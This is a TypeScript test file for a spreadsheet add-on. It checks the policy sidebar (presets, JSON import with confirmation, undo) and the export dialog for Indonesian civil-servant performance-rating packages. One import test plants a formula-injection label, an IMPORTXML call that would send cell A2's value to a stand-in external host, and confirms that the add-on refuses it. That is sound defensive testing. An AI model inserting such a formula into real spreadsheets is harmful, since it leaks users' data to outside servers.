/** The built policy sidebar and export dialog in happy-dom, talking to the built add-on in the sandbox. */
import { beforeAll, describe, expect, it } from 'vitest';
import { readStoredPolicy } from '../../apps-script/src/settings/policy-store';
import { ResultsPackageSchema } from '../../shared/pipeline/schema';
import { defaultPolicy } from '../../shared/policy/schema';
import { ensureBuilt } from '../../tools/apps-script-sandbox/sandbox';
import { sampleBox } from './output-state';
import { openPage } from './sidebar-page';

beforeAll(ensureBuilt);

const settle = () => new Promise((resolve) => setTimeout(resolve, 20));

/** The input right after the label with this text. */
function inputAfter(doc: ReturnType<typeof openPage>, label: string): HTMLInputElement {
  const found = [...doc.querySelectorAll('label')].find((l) => l.textContent === label);
  if (!found) throw new Error(`no label ${label}`);
  return found.nextElementSibling as unknown as HTMLInputElement;
}

const button = (doc: ReturnType<typeof openPage>, text: string): HTMLButtonElement => {
  const found = [...doc.querySelectorAll('button')].find((b) => b.textContent === text);
  if (!found) throw new Error(`no button ${text}`);
  return found as unknown as HTMLButtonElement;
};
const confirmation = (doc: ReturnType<typeof openPage>): string => {
  const box = doc.getElementById('confirm') as unknown as HTMLElement;
  return box.hidden ? '' : (box.textContent ?? '');
};
/** The rows of the confirmation's table: field, now, after. */
const changeRows = (doc: ReturnType<typeof openPage>): string[][] =>
  [...doc.querySelectorAll('#confirm tr')]
    .slice(1)
    .map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent ?? ''));
function importJson(doc: ReturnType<typeof openPage>, json: string): void {
  const area = [...doc.querySelectorAll('textarea')].at(-1) as unknown as HTMLTextAreaElement;
  area.value = json;
  button(doc, 'Impor JSON').click();
}

describe('policy sidebar', () => {
  it('shows fractions as percentages, names a bad field next to its input, then saves', async () => {
    const box = sampleBox();
    const doc = openPage(box, 'Policy');
    await settle();
    expect(doc.body.textContent).toContain('Belum ada kebijakan tersimpan: dipakai bawaan nasional');
    const diAtas = inputAfter(doc, 'Di Atas Ekspektasi bila capaian paling sedikit (%)');
    expect(diAtas.value).toBe('110');
    expect(inputAfter(doc, 'Unit Istimewa: Sangat Baik paling banyak (%)').value).toBe('70');

    const low = inputAfter(doc, 'Hasil rendah bila capaian kurang dari (%)');
    low.value = '-50';
    (doc.getElementById('save') as unknown as HTMLButtonElement).click();
    await settle();
    const error = low.nextElementSibling;
    expect(error?.textContent).toContain('Hasil rendah bila capaian kurang dari (%)');
    expect(error?.textContent).toContain('terlalu kecil');
    expect(doc.getElementById('status')?.className).toContain('error');
    expect(readStoredPolicy(box.documentProperties).status).toBe('default');

    inputAfter(doc, 'Hasil rendah bila capaian kurang dari (%)').value = '70';
    inputAfter(doc, 'Nama kebijakan').value = 'Perbup Kabupaten Contoh 2025';
    (doc.getElementById('save') as unknown as HTMLButtonElement).click();
    await settle();
    expect(doc.getElementById('status')?.textContent).toContain(
      'Kebijakan "Perbup Kabupaten Contoh 2025" disimpan',
    );
    const stored = readStoredPolicy(box.documentProperties);
    expect(stored.status).toBe('saved');
    expect(stored.policy.busy.maxCapaian).toBeCloseTo(0.7, 10);
    expect(stored.policy.rating.hasilBands.diAtasMin).toBeCloseTo(1.1, 10);
  });

  it('applies a preset after showing what changes, and exports the policy as a download link', async () => {
    const box = sampleBox();
    const doc = openPage(box, 'Policy');
    await settle();
    const preset = doc.querySelector('select') as unknown as HTMLSelectElement;
    preset.value = 'tulang_bawang';
    button(doc, 'Pakai preset').click();
    await settle();
    // Nothing is replaced yet: the sidebar shows the main numbers that change and asks first.
    expect(readStoredPolicy(box.documentProperties).status).toBe('default');
    expect(confirmation(doc)).toContain('Ganti kebijakan?');
    expect(confirmation(doc)).toContain(
      'Kebijakan yang berlaku "Bawaan nasional (PermenPANRB 6/2022, SE MenPANRB 3/2023)" akan diganti dengan "Kabupaten Tulang Bawang (potongan apel Senin)".',
    );
    expect(changeRows(doc)).toContainEqual([
      'Tabel potongan disiplin',
      'Permentan 68/2012',
      'Kabupaten Tulang Bawang',
    ]);
    expect(confirmation(doc)).toContain('disimpan sebagai kebijakan sebelumnya dan dapat dipulihkan');
    button(doc, 'Ya, ganti kebijakan').click();
    await settle();
    expect(readStoredPolicy(box.documentProperties).policy.discipline.table.id).toBe('tulang_bawang');
    expect((doc.getElementById('confirm') as unknown as HTMLElement).hidden).toBe(true);
    const exportButton = [...doc.querySelectorAll('button')].find((b) => b.textContent === 'Ekspor JSON');
    (exportButton as unknown as HTMLButtonElement).click();
    await settle();
    const link = doc.querySelector('a.download') as unknown as HTMLAnchorElement;
    expect(link.getAttribute('href')).toMatch(/^data:application\/json;charset=utf-8,/);
    const json = decodeURIComponent((link.getAttribute('href') ?? '').split(',').slice(1).join(','));
    expect(JSON.parse(json).preset).toBe('tulang_bawang');
  });

  it('changes nothing when the confirmation is cancelled', async () => {
    const box = sampleBox();
    const doc = openPage(box, 'Policy');
    await settle();
    (doc.querySelector('select') as unknown as HTMLSelectElement).value = 'legacy_numeric';
    button(doc, 'Pakai preset').click();
    await settle();
    // The legacy preset changes no number of the sidebar: the confirmation says what else changes.
    expect(confirmation(doc)).toContain('1 isian lain juga berubah: legacy.enabled.');
    button(doc, 'Batal').click();
    await settle();
    expect(doc.getElementById('status')?.textContent).toBe('Dibatalkan; kebijakan tidak berubah.');
    expect(box.documentProperties.store.size).toBe(0);
  });

  it('imports JSON only after a confirmation listing the main numbers, and restores the previous policy', async () => {
    const box = sampleBox();
    const doc = openPage(box, 'Policy');
    await settle();
    inputAfter(doc, 'Nama kebijakan').value = 'Perbup Kabupaten Contoh 2025';
    (doc.getElementById('save') as unknown as HTMLButtonElement).click();
    await settle();

    const imported = {
      version: 1,
      name: 'Perbup Tulang Bawang 2024',
      rating: { hasilBands: { diAtasMin: 1.2, sesuaiMin: 0.95 } },
      capaian: { aggregationCap: null },
    };
    importJson(doc, JSON.stringify(imported));
    await settle();
    expect(readStoredPolicy(box.documentProperties).policy.name).toBe('Perbup Kabupaten Contoh 2025');
    const rows = changeRows(doc);
    expect(rows).toContainEqual([
      'Nama kebijakan',
      'Perbup Kabupaten Contoh 2025',
      'Perbup Tulang Bawang 2024',
    ]);
    expect(rows).toContainEqual(['Di Atas Ekspektasi bila capaian paling sedikit (%)', '110 %', '120 %']);
    expect(rows).toContainEqual(['Sesuai Ekspektasi bila capaian paling sedikit (%)', '90 %', '95 %']);
    expect(rows).toContainEqual([
      'Batas atas capaian per indikator (%; kosong = tanpa batas)',
      '120 %',
      'tanpa batas',
    ]);
    expect(rows).toHaveLength(4);
    button(doc, 'Ya, ganti kebijakan').click();
    await settle();
    expect(doc.getElementById('status')?.textContent).toContain(
      'Kebijakan "Perbup Tulang Bawang 2024" disimpan',
    );
    expect(readStoredPolicy(box.documentProperties).policy.rating.hasilBands.diAtasMin).toBe(1.2);

    // One level of undo: the policy the import replaced.
    expect(doc.body.textContent).toContain('Kebijakan sebelumnya: "Perbup Kabupaten Contoh 2025"');
    button(doc, 'Pulihkan kebijakan sebelumnya').click();
    await settle();
    expect(confirmation(doc)).toContain('Pulihkan kebijakan sebelumnya?');
    expect(changeRows(doc)).toContainEqual([
      'Di Atas Ekspektasi bila capaian paling sedikit (%)',
      '120 %',
      '110 %',
    ]);
    button(doc, 'Ya, pulihkan').click();
    await settle();
    expect(doc.getElementById('status')?.textContent).toContain(
      'Kebijakan sebelumnya "Perbup Kabupaten Contoh 2025" dipulihkan',
    );
    expect(readStoredPolicy(box.documentProperties).policy.name).toBe('Perbup Kabupaten Contoh 2025');
    expect(inputAfter(doc, 'Di Atas Ekspektasi bila capaian paling sedikit (%)').value).toBe('110');
    // ...and the restore can itself be undone.
    expect(doc.body.textContent).toContain('Kebijakan sebelumnya: "Perbup Tulang Bawang 2024"');
  });

  it('refuses an import with a misspelt key or a formula-like label before asking anything', async () => {
    const box = sampleBox();
    const doc = openPage(box, 'Policy');
    await settle();
    importJson(
      doc,
      JSON.stringify({ version: 1, rating: { hasilBands: { diAtasMin: 1.2, sesuaiMn: 0.95 } } }),
    );
    await settle();
    expect(doc.getElementById('status')?.className).toContain('error');
    expect(doc.getElementById('status')?.textContent).toContain(
      'kunci "rating.hasilBands.sesuaiMn" tidak dikenal, jadi nilainya tidak akan dipakai. Mungkin maksudnya "rating.hasilBands.sesuaiMin"?',
    );
    expect((doc.getElementById('confirm') as unknown as HTMLElement).hidden).toBe(true);

    const hostile = defaultPolicy();
    hostile.sakip.grades[0]!.label = '=IMPORTXML("http://example.test/?"&A2, "//a")';
    importJson(doc, JSON.stringify(hostile));
    await settle();
    expect(doc.getElementById('status')?.textContent).toContain(
      'isian "sakip.grades.0.label": teks "=IMPORTXML("http://example.test/?"&A2, "..." diawali "="',
    );
    expect((doc.getElementById('confirm') as unknown as HTMLElement).hidden).toBe(true);
    expect(box.documentProperties.store.size).toBe(0);
  });

  it('edits the PK bands, what an OPD package names, the recap counts and the keberatan days', async () => {
    const box = sampleBox();
    const doc = openPage(box, 'Policy');
    await settle();
    const istimewa = inputAfter(doc, 'Predikat Istimewa bila capaian PK di atas (%)');
    expect(istimewa.value).toBe('110');
    expect(inputAfter(doc, 'Predikat Baik bila capaian PK paling sedikit (%)').value).toBe('90');
    const employees = inputAfter(doc, 'Pegawai yang dimuat paket OPD') as unknown as HTMLSelectElement;
    expect(employees.tagName).toBe('SELECT');
    expect(employees.value).toBe('kandidat');
    expect([...employees.options].map((o) => o.value)).toEqual(['kandidat', 'semua']);
    const keberatan = inputAfter(
      doc,
      'Batas pengajuan keberatan pada slip hasil (hari kalender; kosong: menurut ketentuan instansi)',
    );
    expect(keberatan.value).toBe('14');

    // A band above the one before it is refused as a whole, and nothing is saved.
    inputAfter(doc, 'Predikat Baik bila capaian PK paling sedikit (%)').value = '120';
    (doc.getElementById('save') as unknown as HTMLButtonElement).click();
    await settle();
    expect(doc.getElementById('status')?.className).toContain('error');
    expect(doc.getElementById('status')?.textContent).toContain('pkBands harus urut');
    expect(readStoredPolicy(box.documentProperties).status).toBe('default');

    inputAfter(doc, 'Predikat Baik bila capaian PK paling sedikit (%)').value = '90';
    istimewa.value = '105';
    employees.value = 'semua';
    inputAfter(doc, 'OPD terbaik yang disebut menurut SAKIP (jumlah)').value = '5';
    keberatan.value = '';
    (doc.getElementById('save') as unknown as HTMLButtonElement).click();
    await settle();
    const stored = readStoredPolicy(box.documentProperties);
    expect(stored.status).toBe('saved');
    expect(stored.policy.organisation.pkBands[0]?.min).toBeCloseTo(1.05, 10);
    expect(stored.policy.organisation.pkBands[1]?.min).toBeCloseTo(0.9, 10);
    expect(stored.policy.recap.packageEmployees).toBe('semua');
    expect(stored.policy.recap.bestCount).toBe(5);
    expect(stored.policy.papers.keberatanDays).toBeNull();
    // Shown again as saved: the empty deadline stays empty, the choice stays chosen.
    expect(
      inputAfter(
        doc,
        'Batas pengajuan keberatan pada slip hasil (hari kalender; kosong: menurut ketentuan instansi)',
      ).value,
    ).toBe('');
    expect((inputAfter(doc, 'Pegawai yang dimuat paket OPD') as unknown as HTMLSelectElement).value).toBe(
      'semua',
    );
  });

  it('resets to the national defaults after a confirmation, keeping the replaced policy to restore', async () => {
    const box = sampleBox();
    box.call('pilihPresetKebijakan', 'tulang_bawang');
    const doc = openPage(box, 'Policy');
    await settle();
    button(doc, 'Kembalikan ke bawaan nasional').click();
    await settle();
    expect(changeRows(doc)).toContainEqual([
      'Tabel potongan disiplin',
      'Kabupaten Tulang Bawang',
      'Permentan 68/2012',
    ]);
    expect(readStoredPolicy(box.documentProperties).policy.preset).toBe('tulang_bawang');
    button(doc, 'Ya, ganti kebijakan').click();
    await settle();
    expect(readStoredPolicy(box.documentProperties).policy.discipline.table.id).toBe('permentan_68_2012');
    expect(doc.body.textContent).toContain(
      'Kebijakan sebelumnya: "Kabupaten Tulang Bawang (potongan apel Senin)"',
    );
  });
});

describe('export dialog', () => {
  // Since issue 10 the dialog lists the supervisors and offers one package each (it offered one
  // whole-OPD package before).
  it('lists the supervisors with their NIP and subordinates, each package its own download', async () => {
    const box = sampleBox();
    const doc = openPage(box, 'Export');
    await settle();
    expect(doc.body.textContent).toContain('12 paket, satu untuk setiap atasan');
    expect(doc.body.textContent).toContain('3 pegawai tanpa atasan di sheet "Pegawai"');
    expect(doc.body.textContent).toContain('Alasan teguran dan sanksi tidak disertakan');
    const rows = [...doc.querySelectorAll('#packages tr[data-nip]')];
    expect(rows).toHaveLength(12);
    const ahmad = rows.find((r) => r.getAttribute('data-nip') === '198110012006091004');
    expect([...(ahmad?.querySelectorAll('td') ?? [])].slice(0, 3).map((td) => td.textContent)).toEqual([
      'Ahmad Fauzi, S.Sos.',
      '198110012006091004',
      '4',
    ]);
    const link = ahmad?.querySelector('a.download') as unknown as HTMLAnchorElement;
    expect(link.getAttribute('download')).toBe('nilai-kerja-hasil-198110012006091004-ahmad-fauzi-s-sos.json');
    expect(link.getAttribute('aria-label')).toBe('Unduh berkas paket untuk Ahmad Fauzi, S.Sos.');
    const json = decodeURIComponent((link.getAttribute('href') ?? '').split(',').slice(1).join(','));
    const pkg = ResultsPackageSchema.parse(JSON.parse(json));
    expect(pkg.for).toEqual({ nip: '198110012006091004', nama: 'Ahmad Fauzi, S.Sos.' });
    expect(pkg.employees).toHaveLength(4);
    // Every file is a different supervisor's; "Unduh semua" offers them as separate files.
    const names = [...doc.querySelectorAll('#packages a.download')].map((a) => a.getAttribute('download'));
    expect(new Set(names).size).toBe(12);
    const all = doc.getElementById('download-all') as unknown as HTMLButtonElement;
    expect(all.textContent).toBe('Unduh semua (12 berkas terpisah)');
    const clicked: string[] = [];
    for (const a of doc.querySelectorAll('#packages a.download'))
      a.addEventListener('click', (event) => {
        event.preventDefault();
        clicked.push(a.getAttribute('download') ?? '');
      });
    all.click();
    expect(clicked).toEqual(names);
  });

  it("copies one supervisor's package, and only that one", async () => {
    const box = sampleBox();
    const doc = openPage(box, 'Export');
    await settle();
    const copy = doc.querySelector(
      '#packages tr[data-nip="198110012006091004"] button',
    ) as unknown as HTMLButtonElement;
    expect(copy.getAttribute('aria-label')).toBe('Salin paket untuk Ahmad Fauzi, S.Sos.');
    (doc as unknown as { execCommand: (c: string) => boolean }).execCommand = () => true;
    copy.click();
    const area = doc.querySelector('textarea') as unknown as HTMLTextAreaElement;
    expect(area.hidden).toBe(false);
    expect(ResultsPackageSchema.parse(JSON.parse(area.value)).for.nama).toBe('Ahmad Fauzi, S.Sos.');
    expect(doc.getElementById('status')?.textContent).toBe(
      'Paket untuk Ahmad Fauzi, S.Sos. disalin; tempel hanya untuk atasan itu.',
    );
  });
});
